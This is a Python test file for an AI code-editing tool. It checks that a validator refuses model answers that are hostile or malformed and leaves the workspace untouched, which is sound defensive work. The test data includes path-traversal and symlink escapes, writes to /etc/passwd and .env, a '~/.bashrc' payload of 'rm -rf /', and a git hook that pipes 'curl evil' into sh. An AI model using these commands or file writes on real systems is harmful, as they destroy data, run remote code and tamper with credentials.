"""Hostile and broken answers change nothing: each is refused with one clear message.

A real workspace in a temp folder (real files, a real .gitignore, real symbolic links), the
real parsers; the answers are what a model could write.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from lspilot.context.ignore import Exclusions
from lspilot.edits import FORMATS, EditError, EditTask, FileChange, SourceFile, validate
from tests.test_edits_formats import DATES, FILES, INSTRUCTION, LOAD, RENAMED_LOAD


@pytest.fixture
def root(tmp_path: Path) -> Path:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.py").write_text("x = 1\n")
    workspace = tmp_path / "ws"
    (workspace / "app").mkdir(parents=True)
    (workspace / "app" / "load.py").write_text(LOAD)
    (workspace / "dates.py").write_text(DATES)
    (workspace / "other.py").write_text("y = 2\n")
    (workspace / "app" / "config.py").write_text("FORMAT = 'iso'\n")
    (workspace / ".gitignore").write_text("*.log\ngenerated/\n")
    (workspace / ".env").write_text("SECRET=1\n")
    (workspace / "twice.py").write_text(TWICE)
    (workspace / "link").symlink_to(outside, target_is_directory=True)
    (workspace / "alias.py").symlink_to(outside / "target.py")
    (workspace / "settings.py").symlink_to(workspace / ".env")
    return workspace


TWICE = "def a():\n    return None\n\n\ndef b():\n    return None\n"
TASK = EditTask(INSTRUCTION, (*FILES, SourceFile("alias.py", "x = 1\n", None),
                              SourceFile("settings.py", "SECRET=1\n", None),
                              SourceFile("twice.py", TWICE, None)))


def edit(format_name: str, reply: str, root: Path, task: EditTask = TASK) -> list[FileChange]:
    changes = FORMATS[format_name].parse(reply, task)
    validate(changes, task, root, Exclusions(root))
    return changes


def whole(path: str, text: str = "x = 1\n") -> str:
    return f"{path}\n```python\n{text}```\n"


def sr(path: str, search: str, replace: str) -> str:
    return f"{path}\n```python\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n```\n"


HOSTILE = {
    "dotdot": ("whole", whole("../evil.py"), "../evil.py leaves the workspace (..)"),
    "dotdot-to-task-file": ("whole", whole("../dates.py", DATES.replace("datetime", "dt")),
                            "../dates.py leaves the workspace (..)"),
    "dotdot-inside": ("whole", whole("app/../../evil.py"), "leaves the workspace (..)"),
    "dotdot-sr": ("search-replace", sr("../evil.py", "", "x = 1\n"), "leaves the workspace"),
    "dotdot-block": ("block", whole("../evil.py"), "leaves the workspace"),
    "absolute": ("whole", whole("/etc/passwd", "root::0:0::/:/bin/sh\n"),
                 "/etc/passwd is an absolute path"),
    "home": ("whole", whole("~/.bashrc", "rm -rf /\n"), "is an absolute path"),
    "windows": ("whole", whole("C:\\Windows\\evil.py"), "is an absolute path"),
    "symlink-dir": ("whole", whole("link/evil.py"), "link/evil.py leads out of the workspace "
                    "through a symbolic link"),
    "symlink-file": ("whole", whole("alias.py", "x = 2\n"), "leads out of the workspace"),
    "symlink-to-secret": ("whole", whole("settings.py", "SECRET = 2\n"),
                          "settings.py is a link to .env"),
    "env": ("whole", whole(".env", "SECRET=2\n"), ".env is a secret or ignored file"),
    "env-nested": ("whole", whole("app/.env.local", "A=1\n"), "is a secret or ignored file"),
    "key": ("search-replace", sr("deploy/id_rsa", "", "-----BEGIN\n"), "secret or ignored"),
    "git-config": ("whole", whole(".git/config", "[core]\n"), ".git/config is inside .git/"),
    "git-hooks-case": ("whole", whole(".GIT/hooks/pre-commit", "curl evil | sh\n"),
                       "inside .git/"),
    "gitignored": ("whole", whole("debug.log", "x\n"), "debug.log is a secret or ignored file"),
    "ignored-folder": ("whole", whole("generated/x.py"), "secret or ignored"),
    "node-modules": ("whole", whole("node_modules/x/index.js", "x;\n"), "secret or ignored"),
    "not-in-task": ("whole", whole("other.py", "y = 3\n"),
                    "other.py exists but is not one of the files of this edit"),
    "under-a-file": ("whole", whole("dates.py/x.py"), "dates.py is a file, so dates.py/x.py "
                     "cannot be created"),
    "context-file": ("whole", whole("app/config.py", "FORMAT = 'x'\n"), "exists but is not"),
    "two-matches": ("search-replace", sr("twice.py", "    return None\n", "    return 1\n"),
                    "SEARCH/REPLACE block 1 (twice.py): the SEARCH text matches 2 places "
                    "(lines 2, 6); include more lines to pick one"),
    "no-match": ("search-replace", sr("dates.py", "def parse_dates(txt, fmt):\n    pass\n",
                                      "def x():\n    pass\n"),
                 "SEARCH/REPLACE block 1 (dates.py): the SEARCH text is not in the file; "
                 "did you mean line 4 (77% alike):\n    4| def parse_date(text):"),
    "sr-not-in-task": ("search-replace", sr("other.py", "y = 2\n", "y = 3\n"),
                       "other.py is not one of the files of this edit"),
    "sr-empty-search": ("search-replace", sr("dates.py", "", "x = 1\n"),
                        "the SEARCH part is empty but dates.py exists"),
    "placeholder-rest": ("whole", whole("app/load.py", "from dates import parse_iso_date\n\n"
                                        "# ... rest of the file unchanged ...\n"),
                         "the answer for app/load.py leaves code out "
                         "('# ... rest of the file unchanged ...')"),
    "placeholder-dots": ("whole", whole("dates.py", "import datetime\n\n# ...\n"),
                         "leaves code out ('# ...')"),
    "placeholder-sr": ("search-replace", sr("dates.py", "import datetime\n",
                                            "import datetime\n# ... existing code ...\n"),
                       "leaves code out"),
    "placeholder-block": ("block", "[3]\n```python\ndef parse_iso_date(text):\n"
                          "    # existing code here...\n```\n", "leaves code out"),
    "cut-off-whole": ("whole", "app/load.py\n```python\nfrom dates import parse_iso_date\n\n\n"
                      "def load(text):\n", "the answer stops inside the code block for "
                      "app/load.py (cut off?)"),
    "cut-off-new-file": ("whole", "app/new.py\n```python\nx = 1\n", "stops inside"),
    "cut-off-block": ("block", "[3]\n```python\ndef parse_iso_date(text):\n",
                      "stops inside the code block for block [3]"),
    "cut-off-sr": ("search-replace", "dates.py\n```python\n<<<<<<< SEARCH\nimport datetime\n"
                   "=======\nimport datetime as dt\n", "SEARCH/REPLACE block 1 (dates.py) has "
                   "no >>>>>>> REPLACE line"),
    "cut-off-sr-divider": ("search-replace", "dates.py\n<<<<<<< SEARCH\nimport datetime\n",
                           "has no ======= line"),
    "nonsense": ("whole", "I'm sorry, but I can't help with that.",
                 "the answer has no code block, so it changes no file"),
    "nonsense-sr": ("search-replace", "Sure! Rename it in both files.",
                    "no SEARCH/REPLACE block"),
    "nonsense-block": ("block", "The function looks fine to me.", "no code block"),
    "empty": ("whole", "", "the model's answer is empty"),
    "blank": ("search-replace", "  \n\n", "the model's answer is empty"),
    "empty-block": ("block", "", "the model's answer is empty"),
    "unchanged": ("whole", whole("app/load.py", LOAD), "leaves every file as it was"),
    # Small models copy the system prompt's example reply: it creates no file.
    "example-whole": ("whole", whole("src/greet.py", 'def greet(name):\n    return f"Hello, '
                                     '{name}!"\n'), "no code block of the answer names a file"),
    "example-sr": ("search-replace", sr("src/greet.py", '    return "Hello"\n',
                                        '    return f"Hello, {name}!"\n'),
                   "leaves every file as it was"),
    "example-block": ("block", whole("src/greet.py", "def greet(name):\n    return name\n"),
                      "no code block of the answer is one of the numbered blocks"),
    "bash-only": ("whole", "```bash\npython app/load.py\n```\n",
                  "no code block of the answer names a file"),
    "block-number": ("block", "[9]\n```python\nx = 1\n```\n",
                     "block [9], but the blocks given were [1] to [7]"),
    "syntax": ("whole", whole("app/load.py", "def load(text:\n    return []\n"),
               "the change leaves app/load.py with a syntax error (line 1)"),
    "syntax-new-file": ("whole", whole("app/new.py", "def f(:\n"), "syntax error"),
}


@pytest.mark.parametrize(("format_name", "reply", "message"), HOSTILE.values(),
                         ids=HOSTILE.keys())
def test_hostile_answers_are_refused(root: Path, format_name: str, reply: str,
                                     message: str) -> None:
    with pytest.raises(EditError) as raised:
        edit(format_name, reply, root)
    assert message in str(raised.value)
    # nothing was written
    assert (root / "app" / "load.py").read_text() == LOAD
    assert not (root.parent / "evil.py").exists()


def test_a_name_that_fits_two_files_is_refused(root: Path) -> None:
    task = EditTask("x", (SourceFile("a/util.py", "x = 1\n", 1),
                          SourceFile("b/util.py", "x = 1\n", 1)))
    with pytest.raises(EditError, match=r"util\.py, which could be a/util\.py or b/util\.py"):
        edit("whole", whole("util.py", "x = 2\n"), root, task)


def test_a_good_answer_passes(root: Path) -> None:
    reply = whole("app/load.py", RENAMED_LOAD) + whole("app/util/iso.py", "FORMAT = 'iso'\n")
    changes = edit("whole", reply, root)
    assert [(c.path, c.created) for c in changes] == [("app/load.py", False),
                                                      ("app/util/iso.py", True)]


@pytest.mark.parametrize("format_name", ["whole", "block", "search-replace"])
def test_the_example_file_is_created_when_the_instruction_asks_for_it(
        root: Path, format_name: str) -> None:
    task = replace(TASK, instruction="Create src/greet.py with a greet(name) function")
    reply = sr("src/greet.py", "", "def greet(name):\n    return name\n") \
        if format_name == "search-replace" else whole("src/greet.py", "def greet(name):\n"
                                                      "    return name\n")
    changes = edit(format_name, reply, root, task)
    assert [(c.path, c.created) for c in changes] == [("src/greet.py", True)]


def test_a_link_inside_the_workspace_is_followed(root: Path) -> None:
    (root / "dates_link.py").symlink_to(root / "dates.py")
    task = EditTask("x", (SourceFile("dates_link.py", DATES, None),))
    edit("whole", whole("dates_link.py", DATES.replace("import datetime", "import time")), root,
         task)


def test_syntax_errors_pass_when_the_user_allows_them(root: Path) -> None:
    task = replace(TASK, allow_syntax_errors=True)
    changes = edit("whole", whole("app/load.py", "def load(text:\n"), root, task)
    assert changes[0].new_text == "def load(text:\n"


def test_a_file_broken_before_may_stay_broken(root: Path) -> None:
    (root / "broken.py").write_text("def f(:\n    return 1\n")
    task = EditTask("x", (SourceFile("broken.py", "def f(:\n    return 1\n", None),))
    edit("whole", whole("broken.py", "def f(:\n    return 2\n"), root, task)


@pytest.mark.parametrize("change", [
    FileChange("app/load.py", RENAMED_LOAD, created=True),
    FileChange("new.py", "x = 1\n", created=False),
], ids=["task-file-created", "new-file-not-created"])
def test_changes_must_agree_with_the_task(root: Path, change: FileChange) -> None:
    with pytest.raises(EditError, match="refused"):
        validate([change], TASK, root, Exclusions(root))


def test_one_file_changed_twice_is_refused(root: Path) -> None:
    change = FileChange("app/load.py", RENAMED_LOAD)
    with pytest.raises(EditError, match=r"changes app/load\.py twice"):
        validate([change, change], TASK, root, Exclusions(root))
